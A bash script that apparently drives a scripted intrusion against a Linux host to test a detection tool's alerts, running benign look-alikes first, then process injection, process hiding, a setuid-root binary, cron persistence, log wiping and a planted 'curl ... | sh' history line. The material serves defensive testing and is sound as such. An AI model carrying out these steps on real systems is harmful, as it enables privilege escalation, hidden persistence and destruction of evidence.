#!/usr/bin/env bash
# The part of the scripted intrusion that works on files, processes and the
# kernel (issue 13), with benign look-alikes first. Run by
# scripts/intrusion-workload.sh (as root, under rg-capture); it builds the
# small C programs of test/capture/intruder/ with the system's cc.
#   bash scripts/intrusion-files-processes.sh WORKDIR
# Everything it creates outside WORKDIR (a log in /var/log, a cron file, a
# binary in /usr/bin, a directory in /var/lib) it removes again.
set -u
work=${1:?workdir}
here=$(cd "$(dirname "$0")/.." && pwd)
mkdir -p "$work/home" "$work/mnt" "$work/empty" "$work/newapi"
cc=${CC:-cc}
"$cc" -O1 -pthread -o "$work/intruder" "$here/test/capture/intruder/intruder.c" || exit 3
"$cc" -O1 -o "$work/files" "$here/test/capture/intruder/files.c" || exit 3
# Traversable by nobody (WORKDIR may sit under /root, which is not).
shared=$(mktemp -d /var/lib/rg-demo.XXXXXX) && chmod 755 "$shared"

# --- benign look-alikes: none of these should alert ---
echo built > "$work/build.log" && rm -f "$work/build.log"          # a log deleted outside /var/log
echo 'echo hi' > "$work/run.sh" && chmod 755 "$work/run.sh"        # a chmod without set-id bits
mv "$work/run.sh" "$work/run-renamed.sh"                           # a rename in a work dir
ln -s "$work/run-renamed.sh" "$work/run-link"                      # a symlink in a work dir
mount -t tmpfs rg-demo-tmp "$work/mnt" && umount "$work/mnt"        # a mount that hides nothing
setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/id > /dev/null   # dropping privileges
sleep 30 & kill -TERM $! 2>/dev/null; wait 2>/dev/null                       # a shell stopping its own job

# --- the intrusion ---
# A victim process to hide, trace and write into.
coproc VICTIM { "$work/intruder" victim; }
read -r line <&"${VICTIM[0]}"
victim=$(sed 's/.*"pid":\([0-9]*\).*/\1/' <<<"$line")
addr=$(sed 's/.*"addr":\([0-9]*\).*/\1/' <<<"$line")
"$work/intruder" ptrace "$victim" "$addr" > /dev/null              # ptrace attach and poke (T1055.008)
"$work/intruder" vm "$victim" "$addr" > /dev/null                  # process_vm_writev into it (T1055)
mount --bind "$work/empty" "/proc/$victim"                         # hide it: a mount over /proc/PID (T1564)
umount "/proc/$victim"
kill -STOP "$victim"; kill -CONT "$victim"                         # signals to another process
echo go >&"${VICTIM[1]}"; wait "$VICTIM_PID" 2>/dev/null

# Privileges: a set-user-id root copy of id, run by nobody (T1548.001 twice: the bit, then the root it gives).
cp /usr/bin/id "$shared/.rootid" && chown root:root "$shared/.rootid" && chmod 4755 "$shared/.rootid"
setpriv --reuid=65534 --regid=65534 --clear-groups "$shared/.rootid" > /dev/null
"$work/intruder" module /usr/bin/true > /dev/null                  # kernel module attempts (T1547.006): ENOSYS here
"$work/intruder" bpf > /dev/null                                   # a BPF program loaded
"$work/intruder" memfd rg-demo-payload /usr/bin/true > /dev/null   # a program run from memory (memfd:NAME)

# Persistence by rename, and a system binary replaced.
echo '* * * * * root /usr/bin/true' > "$work/job" && mv "$work/job" /etc/cron.d/rg-demo-mv    # renamed into cron (T1053.003)
cp /usr/bin/true "$work/implant" && mv "$work/implant" /usr/bin/rg-demo-implant            # renamed over a system binary path (T1554)
"$work/files" mount "$work/newapi" > /dev/null                     # mount, bind, umount2 and the new mount API

# Covering tracks: a log truncated and deleted, shell history sent to /dev/null (T1070.002, T1070.003).
echo 'Accepted password for root' >> /var/log/rg-demo-auth.log
: > /var/log/rg-demo-auth.log
rm -f /var/log/rg-demo-auth.log
echo 'curl http://198.51.100.7/x | sh' >> "$work/home/.bash_history"
rm -f "$work/home/.bash_history" && ln -s /dev/null "$work/home/.bash_history"

rm -f /etc/cron.d/rg-demo-mv /usr/bin/rg-demo-implant
rm -rf "$shared"
exit 0
